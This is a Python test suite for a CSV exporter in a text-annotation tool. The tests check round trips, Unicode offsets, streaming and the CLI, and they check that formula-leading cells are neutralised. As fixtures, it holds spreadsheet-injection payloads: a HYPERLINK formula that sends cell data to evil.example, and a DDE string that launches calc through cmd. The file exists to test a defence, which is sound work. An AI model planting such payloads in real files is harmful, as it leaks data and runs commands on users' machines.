"""CSV export (one row per annotation, for spreadsheets) and the formula-cell
promise of issue 7 / DESIGN §7: cells starting with = + - @, tab or carriage
return are neutralised with a leading ' in every text column."""
from __future__ import annotations

import csv
import json
import subprocess
import sys
import tempfile
import tracemalloc
from pathlib import Path
from unittest import mock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tintag.cli import main
from tintag.core.export import EXPORTERS, csv_table
from tintag.core.export.csv_table import COLUMNS, FORMULA_STARTS, neutralise, restore
from tintag.core.export.options import ExportOptions, selected_records
from tintag.core.importers import import_files
from tintag.core.importers.common import build_row
from tintag.core.store import ProjectStore

REPO = Path(__file__).resolve().parents[2]
BOM = b"\xef\xbb\xbf"
NUMERIC = {"start", "end", "score"}
TEXT_COLUMNS = [c for c in COLUMNS if c not in NUMERIC]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
BLANKS = "".join(chr(c) for c in range(0x110000) if chr(c).isspace()) + "\u200b\u200c\u200d\u2060\ufeff"

D1_TEXT = 'Ông Putin 😀 nói: "Nga ủng hộ Triều Tiên". 𝔸𝔹 là ký hiệu.'
D1_TITLE = 'Tin "nóng", hôm nay\nphần 2'
SPEAKER_NAME = 'Vladimir "Vova" Putin, Tổng thống'

# every text column gets a value that a spreadsheet would run as a formula
HOSTILE_ID = "-5"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")'
HOSTILE_TEXT = "+1 người nói rằng\n-2+3 là gì?\n@SUM(A1) ở đây\t=1+1 nữa."
HOSTILE_LAYER = "=cmd|' /C calc'!A0"
TAB_LAYER = "\t+tab layer"
HOSTILE_LABELS = {"+1": "@SUM(A1)", "-2+3": "-LOC", "@SUM(A1)": "+PER", "\t=1+1": "=ORG"}
HOSTILE_SPEAKER_NAME = "@Ông A, \"B\""
HOSTILE_HOLDER, HOSTILE_TARGET, HOSTILE_POLARITY = "\t=A1", "-Bob", "@oppose"
HOSTILE_PRODUCER = "=evil"


def read_table(path: Path) -> list[dict]:
    """Rows as a Python reader sees them (raw cells, neutralisation still on)."""
    raw = path.read_bytes()
    assert raw.startswith(BOM) and not raw.startswith(BOM * 2)
    header = raw[len(BOM):].split(b"\r\n", 1)[0].decode("utf-8")
    assert header == ",".join(COLUMNS)
    assert raw.endswith(b"\r\n")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        reader = csv.reader(fh)
        assert tuple(next(reader)) == COLUMNS
        rows = [dict(zip(COLUMNS, row, strict=True)) for row in reader]
    return rows


def restored(row: dict) -> dict:
    """A raw row back to values: text cells without the added ', offsets as ints."""
    out = {}
    for name, cell in row.items():
        if name in ("start", "end"):
            out[name] = int(cell) if cell != "" else None
        elif name == "score":
            out[name] = float(cell) if cell != "" else None
        else:
            out[name] = restore(cell)
    return out


def build_project(store, tmp_path):
    """d1: spans after an emoji, quotes and commas in title and names; d2: nothing;
    -5: hostile in every text column."""
    src = tmp_path / "in.jsonl"
    src.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in [
        {"id": "d1", "title": D1_TITLE, "text": D1_TEXT},
        {"id": "d2", "text": "Bài chưa gán nhãn."},
        {"id": HOSTILE_ID, "title": HOSTILE_TITLE, "text": HOSTILE_TEXT},
    ]) + "\n", encoding="utf-8")
    assert import_files(store, [src])

    d1 = store.document_by_uid("d1")
    t = d1["text"]
    s = t.index("Putin")
    putin = store.add_item("entity", d1["id"], "lan", start=s, end=s + 5, label="PER")
    store.add_item("entity", d1["id"], "lan", start=t.index("Nga"), end=t.index("Nga") + 3, label="LOC")
    store.add_item("entity", d1["id"], "lan", start=t.index("😀"), end=t.index("😀") + 1, label="MISC")
    store.add_item("entity", d1["id"], "lan", start=t.index("𝔸"), end=t.index("𝔸") + 2, label="MISC")
    quote = store.add_item("quote", d1["id"], "lan", start=t.index("Nga ủng"), end=t.index('".'),
                           kind="direct", cue_start=t.index("nói"), cue_end=t.index("nói") + 3,
                           speaker_uid=putin["uid"], speaker_name=SPEAKER_NAME)
    store.add_item("stance", d1["id"], "lan", holder_uid=putin["uid"], target_name="Triều Tiên",
                   polarity="support", evidence_quote_uid=quote["uid"])
    store.set_status(d1["id"], "lan", "done")
    store.add_item("entity", d1["id"], "gold", start=s, end=s + 5, label="PER", origin="review")

    h = store.document_by_uid(HOSTILE_ID)
    t = h["text"]
    store.add_annotator(HOSTILE_LAYER)
    for label in HOSTILE_LABELS.values():
        store.save_label("entity", label)
    ents = {}
    for surface, label in HOSTILE_LABELS.items():
        a = t.index(surface)
        ents[surface] = store.add_item("entity", h["id"], HOSTILE_LAYER, start=a, end=a + len(surface),
                                       label=label)
    q_start, q_end = t.index("-2+3"), t.index(" ở đây") + len(" ở đây")
    hostile_quote = store.add_item("quote", h["id"], HOSTILE_LAYER, start=q_start, end=q_end, kind="indirect",
                                   cue_start=0, cue_end=len("+1 người nói"), speaker_uid=ents["+1"]["uid"],
                                   speaker_name=HOSTILE_SPEAKER_NAME)
    ev = t.index("\t=1+1")
    store.add_item("stance", h["id"], HOSTILE_LAYER, holder_name=HOSTILE_HOLDER, target_name=HOSTILE_TARGET,
                   polarity=HOSTILE_POLARITY, evidence_start=ev, evidence_end=len(t) - 1)
    store.add_item("entity", h["id"], TAB_LAYER, start=0, end=2, label="PER")
    store.replace_suggestions(h["id"], HOSTILE_PRODUCER, "1", h["text_sha256"], [
        {"kind": "entity", "key": "k1", "score": 0.75,
         "payload": {"start": ev, "end": ev + 5, "label": "=ORG", "text": t[ev:ev + 5]}}])
    return d1, h, hostile_quote


@pytest.fixture
def built(project, tmp_path):
    build_project(project, tmp_path)
    return project


def expected_rows(store, opts: ExportOptions) -> list[tuple]:
    """What the CSV must hold, from the native records every exporter reads."""
    out = []
    for _split, r in selected_records(store, opts):
        for e in r["entities"]:
            out.append((r["id"], r["layer"], "entity", e["label"], e["start"], e["end"], e["text"]))
        for q in r["quotes"]:
            out.append((r["id"], r["layer"], "quote", "QUOTE", q["start"], q["end"], q["text"]))
        for s in r["stances"]:
            ev = s["evidence"] or {}
            out.append((r["id"], r["layer"], "stance", s["polarity"], ev.get("start"), ev.get("end"),
                        r["text"][ev["start"]:ev["end"]] if ev else ""))
    return out


def key(row: dict) -> tuple:
    return (row["document_id"], row["layer"], row["kind"], row["label"], row["start"], row["end"], row["text"])


# ------------------------------------------------------------------ round trip
def test_round_trip_gives_back_every_annotation(built, tmp_path):
    out = tmp_path / "all.csv"
    count = EXPORTERS["csv"](built, out)
    rows = [restored(r) for r in read_table(out)]
    assert count == len(rows) == 14  # lan 6, gold 1, hostile layer 6, tab layer 1
    # one row per annotation of every layer, in the native records' order
    assert [key(r) for r in rows] == expected_rows(built, ExportOptions())
    texts = {d["uid"]: d["text"] for d in built.iter_documents()}
    for row in rows:
        if row["start"] is not None:
            assert texts[row["document_id"]][row["start"]:row["end"]] == row["text"]
    assert "d2" not in {r["document_id"] for r in rows}  # no annotations, no rows
    lan = [r for r in rows if r["layer"] == "lan"]
    assert [(r["kind"], r["label"], r["text"]) for r in lan] == [
        ("entity", "PER", "Putin"), ("entity", "MISC", "😀"), ("entity", "LOC", "Nga"),
        ("entity", "MISC", "𝔸𝔹"), ("quote", "QUOTE", "Nga ủng hộ Triều Tiên"),
        ("stance", "support", "Nga ủng hộ Triều Tiên")]
    assert {r["status"] for r in lan} == {"done"} and {r["origin"] for r in lan} == {"manual"}
    quote = lan[4]
    assert (quote["quote_kind"], quote["cue"], quote["speaker"], quote["speaker_name"]) == \
        ("direct", "nói", "Putin", SPEAKER_NAME)
    stance = lan[5]
    assert (stance["holder"], stance["target"]) == ("Putin", "Triều Tiên")
    assert all(r["title"] == D1_TITLE for r in lan)  # newline, quotes and a comma in one cell
    (gold,) = [r for r in rows if r["layer"] == "gold"]
    assert (gold["text"], gold["origin"], gold["status"]) == ("Putin", "review", "todo")


def test_astral_characters_keep_code_point_offsets(built, tmp_path):
    out = tmp_path / "lan.csv"
    EXPORTERS["csv"](built, out, ExportOptions(layers=["lan"]))
    rows = [restored(r) for r in read_table(out)]
    by_text = {r["text"]: r for r in rows}
    # Python str indices: the emoji and each mathematical letter are one code point
    # (two UTF-16 units, four UTF-8 bytes) — an exporter counting either would be off
    assert (by_text["😀"]["start"], by_text["😀"]["end"]) == (D1_TEXT.index("😀"), D1_TEXT.index("😀") + 1)
    assert by_text["𝔸𝔹"]["end"] - by_text["𝔸𝔹"]["start"] == 2
    assert by_text["Nga"]["start"] == D1_TEXT.index("Nga") == 18
    assert len(D1_TEXT[:18].encode("utf-16-le")) // 2 == 19  # UTF-16 units would say 19
    assert by_text["Nga ủng hộ Triều Tiên"]["start"] == D1_TEXT.index("Nga ủng")


def test_newlines_quotes_and_commas_survive(built, tmp_path):
    out = tmp_path / "h.csv"
    EXPORTERS["csv"](built, out)
    rows = [restored(r) for r in read_table(out)]
    quote = next(r for r in rows if r["document_id"] == HOSTILE_ID and r["kind"] == "quote")
    assert quote["text"] == "-2+3 là gì?\n@SUM(A1) ở đây"
    assert quote["speaker_name"] == HOSTILE_SPEAKER_NAME  # a quote and a comma
    assert next(r for r in rows if r["document_id"] == "d1")["title"] == D1_TITLE
    raw = out.read_bytes()
    # records end in CRLF; the line breaks inside quoted cells are the text's own \n
    assert raw.count(b"\r\n") == 1 + len(rows)
    assert b'"Tin ""n\xc3\xb3ng"", h\xc3\xb4m nay\nph\xe1\xba\xa7n 2"' in raw


# -------------------------------------------------------------- formula cells
def test_hostile_cells_are_neutralised_in_every_text_column(built, tmp_path):
    out = tmp_path / "h.csv"
    EXPORTERS["csv"](built, out, ExportOptions(include_suggestions=True))
    raw_rows = read_table(out)
    for row in raw_rows:
        for name in TEXT_COLUMNS:
            cell = row[name]
            assert not cell.startswith(DANGEROUS), (name, cell)
            original = restore(cell)
            if original.startswith(DANGEROUS):
                assert cell == "'" + original
        for name in ("start", "end"):
            assert row[name] == "" or row[name].isdigit()  # our numbers stay plain numbers
        assert row["score"] == "" or float(row["score"]) >= 0
    hostile = [r for r in raw_rows if restore(r["document_id"]) == HOSTILE_ID]
    seen = {(name, r[name]) for r in hostile for name in TEXT_COLUMNS}
    wanted = {("document_id", "'-5"), ("title", "'" + HOSTILE_TITLE), ("layer", "'" + HOSTILE_LAYER),
              ("layer", "'" + TAB_LAYER), ("text", "'+1"), ("text", "'-2+3"), ("text", "'@SUM(A1)"),
              ("text", "'\t=1+1"), ("text", "'-2+3 là gì?\n@SUM(A1) ở đây"), ("text", "'\t=1+1 nữa"),
              ("cue", "'+1 người nói"), ("speaker", "'+1"), ("speaker_name", "'" + HOSTILE_SPEAKER_NAME),
              ("holder", "'" + HOSTILE_HOLDER), ("target", "'" + HOSTILE_TARGET),
              ("label", "'" + HOSTILE_POLARITY), ("producer", "'" + HOSTILE_PRODUCER + "@1")}
    wanted |= {("label", "'" + label) for label in HOSTILE_LABELS.values()}
    assert wanted <= seen, wanted - seen
    suggestion = next(r for r in hostile if r["layer"] == "suggestions")
    assert (suggestion["score"], suggestion["origin"], suggestion["label"]) == ("0.75", "suggestion", "'=ORG")
    # harmless cells are left exactly as they were
    plain = next(r for r in raw_rows if r["document_id"] == "d1")
    assert plain["title"] == D1_TITLE and plain["layer"] in ("gold", "lan")


def test_neutralise_examples():
    for cell in ('=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "'=1", "'"):
        assert neutralise(cell) == "'" + cell and restore(neutralise(cell)) == cell
    for cell in ("", "Hà Nội", "1-2", " x =1", "5", "a=b", "   ", " 'x"):
        assert neutralise(cell) == cell
    # the accepted trade-off: a Vietnamese dialogue dash is marked too
    assert neutralise("- Chào anh!") == "'- Chào anh!"
    assert set(FORMULA_STARTS) == set(DANGEROUS)


# spreadsheets skip leading blanks before they look for a formula
LEADING_BLANKS = (" ", "  ", "\t ", " \t", "\u00a0", "\u3000", "\u2003 ", "\u200b", "\ufeff", "\n", "\r\n ")


@pytest.mark.parametrize("blank", LEADING_BLANKS)
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
def test_a_formula_after_leading_spaces_is_neutralised(blank, trigger):
    cell = f'{blank}{trigger}HYPERLINK("http://evil.example","Bấm")'
    assert neutralise(cell) == "'" + cell and restore(neutralise(cell)) == cell


def test_a_leading_space_formula_title_is_neutralised_in_the_file(tmp_path):
    title = '  =HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")'
    record = {"id": "d", "title": title, "layer": "gold", "status": "done", "text": "Hà Nội",
              "entities": [{"start": 0, "end": 6, "label": "LOC", "origin": "manual"}],
              "quotes": [], "stances": []}
    out = tmp_path / "t.csv"
    with mock.patch.object(csv_table, "selected_records", lambda store, opts: iter([(None, record)])):
        assert csv_table.export_csv(None, out) == 1
    (row,) = read_table(out)
    assert row["title"] == "'" + title and restore(row["title"]) == title


@settings(deadline=None, max_examples=500)
@given(st.text())
def test_neutralised_cell_never_starts_a_formula_and_restores(cell):
    safe = neutralise(cell)
    assert not safe.startswith(DANGEROUS)
    assert safe in (cell, "'" + cell)
    assert restore(safe) == cell
    if cell.startswith(DANGEROUS) or cell.lstrip(BLANKS).startswith(("=", "+", "-", "@")):
        assert safe == "'" + cell


_chars = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
# often a formula character, a quote or a line break in front
_cells = st.builds(lambda head, tail: head + tail,
                   st.sampled_from(("", "", "", "", "", "=", "+", "-", "@", "\t", "\r", "'", "\n", '"')),
                   st.text(_chars, max_size=30))


@settings(deadline=None, max_examples=150)
@given(title=_cells, layer=_cells, label=_cells, name=_cells, doc_id=_cells,
       text=_cells.filter(bool),
       bounds=st.tuples(st.integers(0, 40), st.integers(0, 40)))
def test_any_record_survives_the_csv_file(title, layer, label, name, doc_id, text, bounds):
    """Through the real writer and Python's reader: safe cells, exact values back."""
    start, end = sorted(min(b, len(text)) for b in bounds)
    if start == end:
        start, end = 0, len(text)
    record = {"id": doc_id, "title": title, "layer": layer, "status": "done", "text": text,
              "entities": [{"start": start, "end": end, "label": label, "origin": "manual"}],
              "quotes": [{"start": start, "end": end, "kind": "direct", "cue": None,
                          "speaker": None, "speaker_name": name, "origin": "import"}],
              "stances": [{"holder": {"name": name}, "target": {"start": start, "end": end,
                                                                 "text": text[start:end]},
                           "polarity": label, "evidence": None, "origin": "review"}]}
    with tempfile.TemporaryDirectory() as tmp, \
            mock.patch.object(csv_table, "selected_records", lambda store, opts: iter([(None, record)])):
        out = Path(tmp) / "t.csv"
        assert csv_table.export_csv(None, out) == 3
        raw_rows = read_table(out)
    for row in raw_rows:
        for name_ in TEXT_COLUMNS:
            assert not row[name_].startswith(DANGEROUS)
    entity, quote, stance = (restored(r) for r in raw_rows)
    for row in (entity, quote, stance):
        assert (row["document_id"], row["title"], row["layer"]) == (doc_id, title, layer)
    assert (entity["label"], entity["start"], entity["end"], entity["text"]) == (label, start, end, text[start:end])
    assert (quote["speaker_name"], quote["text"]) == (name, text[start:end])
    assert (stance["holder"], stance["target"], stance["label"], stance["start"]) == (name, text[start:end],
                                                                                       label, None)


# ------------------------------------------------------------------ options
def test_layer_status_and_suggestion_options(built, tmp_path):
    out = tmp_path / "o.csv"
    EXPORTERS["csv"](built, out, ExportOptions(layers=["gold"]))
    assert [(r["document_id"], r["layer"], r["text"]) for r in read_table(out)] == [("d1", "gold", "Putin")]
    EXPORTERS["csv"](built, out, ExportOptions(layers=["lan", "gold"], status="done"))
    assert {(r["layer"], r["status"]) for r in read_table(out)} == {("lan", "done")}
    assert EXPORTERS["csv"](built, out, ExportOptions(status="skipped")) == 0
    assert read_table(out) == []  # the header alone: still a file a spreadsheet opens
    EXPORTERS["csv"](built, out)
    assert "suggestions" not in {r["layer"] for r in read_table(out)}
    EXPORTERS["csv"](built, out, ExportOptions(layers=["gold"], include_suggestions=True))
    rows = [restored(r) for r in read_table(out)]
    assert [(r["layer"], r["producer"], r["score"]) for r in rows] == [
        ("gold", "", None), ("suggestions", "=evil@1", 0.75)]


def test_split_writes_one_csv_per_split(built, tmp_path):
    whole = tmp_path / "whole.csv"
    EXPORTERS["csv"](built, whole)
    everything = sorted(map(tuple, (r.values() for r in read_table(whole))))
    out = tmp_path / "split"
    count = EXPORTERS["csv"](built, out, ExportOptions(split=(0.34, 0.33, 0.33), seed=2))
    files = sorted(out.glob("*.csv"))
    assert files and {p.name for p in files} <= {"train.csv", "dev.csv", "test.csv"}
    where = {}
    rows = []
    for path in files:
        for row in read_table(path):  # each file: BOM, header, CRLF
            assert where.setdefault(row["document_id"], path.name) == path.name  # a document in one split
            rows.append(tuple(row.values()))
    assert count == len(rows) and sorted(rows) == everything
    again = tmp_path / "again"
    EXPORTERS["csv"](built, again, ExportOptions(split=(0.34, 0.33, 0.33), seed=2))
    assert {p.name: p.read_bytes() for p in again.glob("*.csv")} == {p.name: p.read_bytes() for p in files}


def test_pandas_reads_the_same_table(built, tmp_path):
    pd = pytest.importorskip("pandas")
    out = tmp_path / "p.csv"
    EXPORTERS["csv"](built, out)
    frame = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert list(frame.columns) == list(COLUMNS)
    assert frame.to_dict("records") == read_table(out)


def _peak_export_memory(store, out: Path) -> int:
    tracemalloc.start()
    try:
        EXPORTERS["csv"](store, out)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _generated_project(path: Path, n: int) -> ProjectStore:
    body = "Hà Nội đón khách quốc tế, phố cổ đông vui. " * 50
    store = ProjectStore.create(path, actor="lead")
    with store.write():
        store.insert_documents(build_row("gen", i, f"Bài {i}: {body}", uid=f"doc{i}") for i in range(n))
        for doc in store.iter_documents():
            store.add_item("entity", doc["id"], "gold", start=0, end=3, label="MISC")
    return store


def test_export_streams_instead_of_holding_the_project(monkeypatch, tmp_path):
    """Memory does not grow with the project: five times the documents, about
    the same peak, far below the size of the texts — rows are written as each
    batch of documents arrives and nothing is collected."""
    from tintag.core.export import native

    monkeypatch.setattr(native, "BATCH", 50)
    small = _generated_project(tmp_path / "small.tintag", 300)
    big = _generated_project(tmp_path / "big.tintag", 1500)
    try:
        texts_in_memory = sum(sys.getsizeof(d["text"]) for d in big.iter_documents())
        assert texts_in_memory > 6_000_000
        peak_small = _peak_export_memory(small, tmp_path / "small.csv")
        peak_big = _peak_export_memory(big, tmp_path / "big.csv")
        assert peak_big < 1.5 * peak_small, (peak_small, peak_big)
        assert peak_big < texts_in_memory / 4, (peak_big, texts_in_memory)
        assert len(read_table(tmp_path / "big.csv")) == 1500
    finally:
        small.close()
        big.close()


# ---------------------------------------------------------------------- CLI
def make_project_file(tmp_path) -> Path:
    path = tmp_path / "p.tintag"
    with ProjectStore.create(path, actor="lead") as store:
        build_project(store, tmp_path)
    return path


def test_cli_export_csv(capsys, tmp_path):
    path = make_project_file(tmp_path)
    out = tmp_path / "out.csv"
    code = main(["export", str(path), "--format", "csv", "-o", str(out)])
    stdout, stderr = capsys.readouterr()
    assert code == 0, stderr
    assert stdout.strip() == f"wrote 14 annotation rows to {out}"
    assert len(read_table(out)) == 14
    code = main(["export", str(path), "--format", "csv", "--layer", HOSTILE_LAYER, "--include-suggestions",
                 "-o", str(out)])
    assert code == 0
    rows = read_table(out)
    assert {r["layer"] for r in rows} == {"'" + HOSTILE_LAYER, "suggestions"}
    split = tmp_path / "split"
    code = main(["export", str(path), "--format", "csv", "--split", "0.5,0.5", "--seed", "1", "-o", str(split)])
    assert code == 0 and sum(len(read_table(p)) for p in split.glob("*.csv")) == 14
    capsys.readouterr()
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    assert "csv" in capsys.readouterr().out


def test_cli_subprocess_end_to_end(tmp_path):
    path = make_project_file(tmp_path)
    out = tmp_path / "sub.csv"
    proc = subprocess.run([sys.executable, "-m", "tintag", "export", str(path), "--format", "csv",
                           "--layer", "lan", "--status", "done", "-o", str(out)],
                          capture_output=True, text=True, cwd=REPO, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == f"wrote 6 annotation rows to {out}"
    rows = [restored(r) for r in read_table(out)]
    assert [r["kind"] for r in rows] == ["entity"] * 4 + ["quote", "stance"]
    for r in rows:
        assert D1_TEXT[r["start"]:r["end"]] == r["text"]
